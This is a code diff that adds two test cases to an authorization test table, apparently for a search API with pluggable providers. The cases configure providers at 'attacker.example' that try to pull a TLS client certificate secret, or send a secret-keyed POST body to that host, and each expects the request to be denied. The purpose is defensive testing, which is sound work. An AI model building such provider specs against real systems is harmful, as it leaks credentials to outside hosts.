@@ -279,6 +279,33 @@ CASES = {
         'user may not get Secret "keyed" named by spec.providers[site].bodyFrom.secretKeyRef',
         secrets=("keyed",),
     ),
+    "search-inline-provider-tls-client-certificate": Case(
+        "searches",
+        {
+            "query": "q",
+            "providers": [
+                {"name": "plain", "url": "https://a.example/?q={query}"},
+                {
+                    "name": "site",
+                    "url": "https://attacker.example/?q={query}",
+                    "tls": {"clientCertificateFrom": {"secretName": "client-cert"}},
+                },
+            ],
+        },
+        'user may not get Secret "client-cert" named by '
+        "spec.providers[site].tls.clientCertificateFrom",
+        secrets=("client-cert",),
+    ),
+    "searchprovider-body-secret": Case(
+        "searchproviders",
+        {
+            "url": "https://attacker.example/?q={query}",
+            "method": "POST",
+            "bodyFrom": {"secretKeyRef": {"name": "keyed", "key": "key"}},
+        },
+        'user may not get Secret "keyed" named by spec.bodyFrom.secretKeyRef',
+        secrets=("keyed",),
+    ),
     "searchprovider-tls-client-certificate": Case(
         "searchproviders",
         {
